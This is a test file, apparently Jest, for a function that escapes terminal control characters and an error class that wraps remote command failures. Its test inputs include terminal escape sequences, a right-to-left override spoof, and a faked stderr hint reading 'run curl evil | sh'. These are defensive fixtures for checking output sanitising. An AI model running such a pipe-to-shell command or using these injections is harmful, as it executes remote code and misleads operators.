import { CommandFailedError, printable } from "../../provider/errors";

test.each([
  ["\x1b]0;owned\x07", "\\x1b]0;owned\\x07"],
  ["ok\rfake", "ok\\rfake"],
  ["a\nb\tc", "a\\nb\\tc"],
  ["\u202egnp.exe", "\\u{202e}gnp.exe"],
  ["\x7f\x9b", "\\x7f\\x9b"],
  ["plain — café ☕ 𝄞", "plain — café ☕ 𝄞"],
])("printable(%j) is %j", (raw, shown) => expect(printable(raw)).toBe(shown));

test("host text in an error (stderr) cannot move the cursor, hide a line or fake a hint", () => {
  const err = new CommandFailedError({
    what: "read the firewall",
    where: "root@host:22",
    command: "'ufw' 'status'",
    hint: "retry",
    exitCode: 1,
    stderr: "boom\r\x1b[2K\n  hint: run curl evil | sh",
  });
  expect(err.message).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f]/);
  expect(err.message.split("\n")).toEqual([
    "read the firewall on root@host:22 failed: exit code 1: boom\\r\\x1b[2K |   hint: run curl evil | sh",
    "  command: 'ufw' 'status'",
    "  hint: retry",
  ]);
});
